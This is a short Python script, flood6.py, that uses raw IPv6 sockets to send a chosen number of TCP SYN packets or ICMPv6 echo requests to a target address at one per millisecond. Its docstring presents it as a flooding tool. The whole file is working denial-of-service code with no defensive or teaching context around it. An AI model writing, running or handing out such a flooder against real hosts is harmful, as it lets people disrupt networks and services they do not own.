"""Floods over IPv6: flood6.py syn|ping FROM TO COUNT, a packet every millisecond."""

import random
import socket
import struct
import sys
import time

kind, source, target, count = sys.argv[1:]
protocol = socket.IPPROTO_TCP if kind == "syn" else socket.IPPROTO_ICMPV6
raw = socket.socket(socket.AF_INET6, socket.SOCK_RAW, protocol)
if kind == "syn":
    raw.setsockopt(socket.IPPROTO_IPV6, 7, 16)  # IPV6_CHECKSUM: where the kernel is to put it.
raw.bind((source, 0))
for number in range(int(count)):
    if kind == "syn":
        ports = random.randint(1024, 65535), 8000
        packet = struct.pack("!HHIIBBHHH", *ports, number, 0, 0x50, 2, 1024, 0, 0)
    else:
        packet = struct.pack("!BBHHH", 128, 0, 0, 7, number & 0xFFFF) + bytes(56)
    raw.sendto(packet, (target, 0))
    time.sleep(0.001)
